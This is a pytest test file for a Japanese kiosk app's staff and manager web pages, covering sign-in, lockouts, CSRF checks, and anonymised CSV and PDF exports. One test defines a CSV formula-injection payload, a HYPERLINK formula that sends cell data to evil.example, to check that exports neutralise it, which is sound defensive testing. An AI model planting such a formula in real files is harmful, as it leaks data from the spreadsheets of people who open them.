"""The staff side over HTTP: sign-in, shifts, the helper's controls, the manager's area."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import pytest

from kiosk.staff.accounts import NOTE_REASONS
from kiosk.statistics.exports import event_columns
from kiosk.statistics.report import summary_columns
from tests.support.auth import AuthActions
from tests.support.waiting import wait_recorded, wait_until


@pytest.fixture
def accounts(app):
    store = app.extensions["kiosk.accounts"]
    store.create_staff("helper1", "246813")
    store.create_manager("boss", "correct horse battery")
    return store


def test_staff_pages_need_sign_in_and_sign_in_starts_a_shift(client, auth, accounts):
    assert client.get("/staff/").status_code == 302
    assert auth.staff_login(pin="1111").status_code == 200  # refused, form again
    assert not accounts.shifts()
    assert auth.staff_login().headers["Location"].endswith("/staff/")
    assert client.get("/staff/").status_code == 200
    (shift,) = accounts.shifts()
    assert shift.staff_code == "helper1" and shift.ended_at is None
    auth.logout()
    (shift,) = accounts.shifts()
    assert shift.ended_at is not None
    assert client.get("/staff/").status_code == 302


def test_helper_cancels_and_marks_without_ever_seeing_the_pin(client, auth, demo, terminal, accounts):
    auth.staff_login()
    demo.insert("hanako")
    wait_until(lambda: terminal.snapshot()["step"] == "consent")
    client.post("/action", data={"action": "agree"})
    html = client.get("/staff/").get_data(as_text=True)
    assert 'data-staff-step="pin"' in html and 'data-field="tries_left">3<' in html
    client.post("/staff/action", data={"action": "self_service"})
    client.post("/staff/action", data={"action": "cancel"})
    assert terminal.snapshot()["reason"] == "cancelled"
    demo.remove()
    wait_until(lambda: terminal.snapshot()["step"] == "idle")
    wait_recorded(terminal)
    (event,) = list(terminal.stats.events())
    assert event["reason"] == "cancelled" and event["assisted"] == 1  # a helper's cancel is assistance


def test_staff_age_band_when_configured(instance):
    from kiosk import create_app

    app = create_app({"demo": True, "instance_path": str(instance), "secret_key": "t", "age_source": "staff"})
    app.config.update(TESTING=True, WTF_CSRF_ENABLED=False)
    app.extensions["kiosk.terminal"].start()
    try:
        app.extensions["kiosk.accounts"].create_staff("helper1", "246813")
        client = app.test_client()
        terminal, demo = app.extensions["kiosk.terminal"], app.extensions["kiosk.demo"]
        AuthActions(client).staff_login()
        demo.insert("hanako")
        wait_until(lambda: terminal.snapshot()["step"] == "consent")
        client.post("/staff/age-band", data={"band": "75+"})
        client.post("/action", data={"action": "agree"})
        client.post("/pin", data={"pin": "1234"})
        wait_until(lambda: terminal.snapshot()["step"] == "done")
        demo.remove()
        wait_until(lambda: not terminal.snapshot()["card_present"])
        client.post("/action", data={"action": "acknowledge"})
        wait_until(lambda: terminal.snapshot()["step"] == "idle")
        wait_recorded(terminal)
        (event,) = list(terminal.stats.events())
        assert event["age_band"] == "75+"
    finally:
        app.extensions["kiosk.terminal"].stop()


@pytest.mark.parametrize("text", ["her PIN is 1 2 3 4", "4.3.2.1", "四三二一", "いち に さん よん",
                                  "山田花子さん 東京都千代田区", "asked about the clinic's reader"])
def test_a_note_is_a_reason_from_the_list_never_free_text(client, auth, accounts, text):
    # The review passed PINs and names through the digit filter: notes are now picked from a list.
    auth.staff_login()
    panel = client.get("/staff/").get_data(as_text=True)
    assert 'name="reason"' in panel and "<textarea" not in panel
    assert all(f'value="{code}"' in panel for code in NOTE_REASONS)  # every reason has its words
    client.post("/staff/note", data={"reason": text, "text": text})
    assert accounts.notes() == []
    client.post("/staff/note", data={"reason": "forgot_pin"})
    assert [n["text"] for n in accounts.notes()] == ["forgot_pin"]


def test_forms_without_a_csrf_token_are_rejected(app, accounts):
    strict = app.test_client()  # CSRF stays on here
    assert strict.post("/manager/login", data={"name": "boss", "password": "correct horse battery"}).status_code == 400
    assert strict.post("/staff/login", data={"code": "helper1", "pin": "246813"}).status_code == 400


def test_manager_area_exports_and_lock_out(make_app):
    app = make_app(venue="本庁舎", age_source="card")  # a venue in kanji: the CP932 download must keep it readable
    app.config["WTF_CSRF_ENABLED"] = False
    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
    client = app.test_client()
    auth = AuthActions(client)
    terminal, demo = app.extensions["kiosk.terminal"], app.extensions["kiosk.demo"]
    demo.insert("hanako")  # one visit: hanako registers
    wait_until(lambda: terminal.snapshot()["step"] == "consent")
    client.post("/action", data={"action": "agree"})
    client.post("/action", data={"action": "read_age"})  # and lets the card give her age band
    client.post("/pin", data={"pin": "1234"})
    wait_until(lambda: terminal.snapshot()["step"] == "done")
    demo.remove()
    wait_until(lambda: terminal.snapshot()["step"] == "idle")
    wait_recorded(terminal)
    month = dt.datetime.now(ZoneInfo(app.config["KIOSK"].timezone)).strftime("%Y-%m")

    assert client.get("/manager/export/events.csv").status_code == 302  # not signed in yet
    assert auth.manager_login().status_code == 302
    for encoding, codec, charset in (("utf-8", "utf-8-sig", "utf-8"), ("cp932", "cp932", "shift_jis")):
        # a demo visit is training: left out unless the manager asks for it
        # ... so the header and the terminal's signed head of the last row (export_heads.py)
        header_and_head = client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec)
        assert header_and_head.count("\r\n") == 2 and header_and_head.splitlines()[1].startswith("madoguchi-head ")
        events = client.get(f"/manager/export/events.csv?encoding={encoding}&training=1")
        assert events.status_code == 200 and events.data.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8")
        assert events.headers["Content-Type"] == f"text/csv; charset={charset}"
        header, *rows, (signed,) = csv.reader(io.StringIO(events.data.decode(codec), newline=""))
        assert tuple(header) == event_columns("ja")
        (row,) = (dict(zip(header, r, strict=True)) for r in rows)
        assert signed.split(" ")[2:4] == ["1", terminal.stats.head()]  # madoguchi-head DAY SEQ HASH sig= key=
        assert row["設置場所"] == "本庁舎" and row["結果"] == "新規登録" and row["年齢区分"] == "75+"
        assert row["暗証番号入力回数"] == "1" and row["行ハッシュ"] == terminal.stats.head()
        assert row["研修(1=はい)"] == "1" and row["終了日時"].endswith("+09:00")  # JST, from the settings

        summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&month={month}&training=1")
        assert summary.status_code == 200 and month in summary.headers["Content-Disposition"]
        assert summary.headers["Content-Type"] == f"text/csv; charset={charset}"
        header, *rows = csv.reader(io.StringIO(summary.data.decode(codec), newline=""))
        assert tuple(header) == summary_columns("ja") == ("対象月", "区分", "項目", "値")
        for expected in (["合計", "利用件数", "1"], ["合計", "新規登録", "1"], ["設置場所別", "本庁舎", "1"],
                         ["年齢区分別", "75歳以上", "1"]):  # fmt: skip
            assert [month, *expected] in rows, expected
    english = client.get(f"/manager/export/summary.csv?month={month}&lang=en").data.decode("utf-8-sig")
    assert english.startswith("month,section,item,value") and f"{month},total,sessions,0" in english

    auth.logout()
    assert client.get("/manager/export/summary.csv").status_code == 302
    for _ in range(5):
        assert auth.manager_login(password="wrong").status_code == 200
    locked = auth.manager_login()
    assert locked.status_code == 200 and "15分間サインインできません" in locked.get_data(as_text=True)
    assert client.get("/manager/export/events.csv").status_code == 302  # still out


def test_manager_dashboard_report_and_csv(client, auth, demo, terminal, accounts):
    demo.insert("hanako")
    wait_until(lambda: terminal.snapshot()["step"] == "consent")
    client.post("/action", data={"action": "decline"})
    demo.remove()
    wait_until(lambda: terminal.snapshot()["step"] == "idle")
    wait_recorded(terminal)
    auth.manager_login()
    html = client.get("/manager/").get_data(as_text=True)
    assert "data-sessions>0<" in html and 'data-training="left-out"' in html  # a demo visit is training
    html = client.get("/manager/?training=1").get_data(as_text=True)
    assert "data-sessions>1<" in html and "data-declined>1<" in html and 'data-chain="ok"' in html and "<svg" in html
    assert "同意せず終了" in html and ">日本語</text>" in html  # the manager's words, not the stored codes
    report = client.get("/manager/report?training=1").get_data(as_text=True)
    assert "実績報告書" in report and "<td>同意せず終了</td><td>1</td>" in report and "作成者" in report
    pdf = client.get("/manager/report.pdf?training=1")
    assert pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF") and "jisseki-" in pdf.headers[
        "Content-Disposition"]
    for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
        body = client.get(f"/manager/export/events.csv?encoding={encoding}&training=1").data.decode(codec)
        row, signed = list(csv.DictReader(io.StringIO(body)))
        assert signed["イベントID"].startswith("madoguchi-head ")
        assert row["結果"] == "同意せず終了" and row["行ハッシュ"] == terminal.stats.head()
        summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&training=1").data.decode(codec)
        assert "合計,利用件数,1" in summary


FORMULA_VENUE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("encoding,codec", [("utf-8", "utf-8-sig"), ("cp932", "cp932")])
def test_exported_cells_never_start_a_spreadsheet_formula(make_app, encoding, codec):
    # OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote,
    # so Excel on the manager's PC shows the text instead of running it.
    from tests.support.events import event

    app = make_app(venue=FORMULA_VENUE)
    app.config["WTF_CSRF_ENABLED"] = False
    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
    stats = app.extensions["kiosk.terminal"].stats
    now = dt.datetime.now(ZoneInfo(app.config["KIOSK"].timezone))
    row = list(event(now.strftime("%Y-%m-%d %H:%M"), venue=FORMULA_VENUE))
    row[14] = "+1"  # options: a free cell, standing in for a helper's note
    stats.append([tuple(row), event(now.strftime("%Y-%m-%d %H:%M"), venue="@SUM(1)")])
    client = app.test_client()
    AuthActions(client).manager_login()
    events = client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec)
    summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&month={now:%Y-%m}").data.decode(codec)
    cells = [c for r in csv.reader(io.StringIO(events, newline="")) for c in r]
    cells += [c for r in csv.reader(io.StringIO(summary, newline="")) for c in r]
    assert "'" + FORMULA_VENUE in cells and "'+1" in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_neutralised_export_still_merges_with_its_chain_intact(tmp_path):
    from kiosk.statistics.store import StatsStore, merge_exports
    from tests.support.events import event

    store = StatsStore(tmp_path / "stats.sqlite3")
    store.append([event("2026-11-05 10:00", venue=FORMULA_VENUE), event("2026-11-05 11:00", venue="'quoted")])
    path = tmp_path / "events.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        store.export_csv(fh)
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
    merged, [(_, check)] = merge_exports([path])
    assert check.ok and [r["venue"] for r in merged] == [FORMULA_VENUE, "'quoted"]


def _answer(response, name: str) -> tuple[int, str]:
    """What the sign-in page says, less the per-response CSRF token and the name typed (echoed)."""
    page = re.sub(r'<meta name="csrf-token"[^>]*>', "", response.get_data(as_text=True))
    return response.status_code, page.replace(f'value="{name}"', 'value="NAME"')


def test_a_locked_manager_and_an_unknown_name_get_the_same_answer(make_app):
    app = make_app()
    app.config["WTF_CSRF_ENABLED"] = False
    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
    client = app.test_client()
    auth = AuthActions(client)
    wrong = auth.manager_login(password="wrong password")
    unknown = auth.manager_login(name="nobody", password="wrong password")
    assert _answer(wrong, "boss") == _answer(unknown, "nobody")
    for _ in range(5):
        auth.manager_login(password="wrong password")
    locked = auth.manager_login()  # the right password, while locked
    for _ in range(6):
        unknown = auth.manager_login(name="nobody", password="wrong password")
    assert _answer(locked, "boss") == _answer(unknown, "nobody") == _answer(wrong, "boss")
    assert client.get("/manager/").status_code == 302


def _visit_on_panel(client) -> str:
    html = client.get("/staff/").get_data(as_text=True)
    (visit,) = set(re.findall(r'name="visit" value="([0-9a-f]+)"', html))
    return visit


def test_allowing_the_last_try_is_bound_to_the_visit_the_helper_saw(client, auth, demo, terminal, accounts):
    auth.staff_login()
    demo.insert("sachiko")  # one PIN try left: the kiosk waits for a helper
    wait_until(lambda: terminal.snapshot()["reason"] == "one_try_left")
    earlier = _visit_on_panel(client)
    demo.remove()
    wait_until(lambda: terminal.snapshot()["step"] == "idle")
    demo.insert("sachiko")  # the next resident, also with one try left
    wait_until(lambda: terminal.snapshot()["reason"] == "one_try_left")

    client.post("/staff/action", data={"action": "allow_last_try", "visit": earlier})  # a stale panel
    assert not terminal.snapshot()["last_try_allowed"] and terminal.snapshot()["step"] != "pin"
    client.post("/staff/action", data={"action": "allow_last_try"})  # no visit at all
    assert not terminal.snapshot()["last_try_allowed"]

    current = _visit_on_panel(client)
    assert current != earlier
    client.post("/staff/action", data={"action": "allow_last_try", "visit": current})
    assert terminal.snapshot()["last_try_allowed"] and terminal.snapshot()["step"] == "pin"


def test_the_managers_events_csv_is_anonymous(make_app):
    # The review: holder_key plus times to the second made the export pseudonymous, not anonymous.
    from tests.support.events import event

    app = make_app()
    app.config["WTF_CSRF_ENABLED"] = False
    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
    rows = []
    for i, holder in enumerate(("a1" * 16, "b2" * 16, "a1" * 16)):
        row = list(event(f"2026-11-05 1{i}:00", holder=holder))
        row[3], row[4] = f"2026-11-05T0{i}:12:34+00:00", f"2026-11-05T0{i}:14:09+00:00"
        rows.append(tuple(row))
    app.extensions["kiosk.terminal"].stats.append(rows)
    client = app.test_client()
    AuthActions(client).manager_login()
    for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
        body = client.get(f"/manager/export/events.csv?encoding={encoding}&lang=en").data.decode(codec)
        # whole keys: a fragment like "b2b2" can turn up by chance in the signed head's hex
        assert "holder_key" not in body and "a1" * 16 not in body and "b2" * 16 not in body
        *exported, signed = csv.DictReader(io.StringIO(body, newline=""))  # the last: the signed head
        assert signed["event_id"].startswith("madoguchi-head ") and signed["started_at"] is None
        # times to the minute, in the settings' time zone (JST), not UTC
        assert [r["started_at"] for r in exported] == [f"2026-11-05T{9 + i:02d}:12+09:00" for i in range(3)]
        assert [r["ended_at"] for r in exported] == [f"2026-11-05T{9 + i:02d}:14+09:00" for i in range(3)]
        assert [r["holder_visit"] for r in exported] == ["1", "1", "2"]  # the repeat visit is still counted


def test_wrong_staff_pins_pause_that_account_and_unknown_codes_answer_alike(client, auth, accounts):
    # The review guessed all 10,000 four-digit PINs in 12 minutes: wrong tries now pause sign-in.
    for _ in range(5):
        assert auth.staff_login(pin="135799").status_code == 200
    paused = auth.staff_login()  # the right PIN, too late
    assert paused.status_code == 200 and client.get("/staff/").status_code == 302
    for _ in range(6):
        unknown = auth.staff_login(code="nobody", pin="135799")
    assert _answer(paused, "helper1") == _answer(unknown, "nobody")
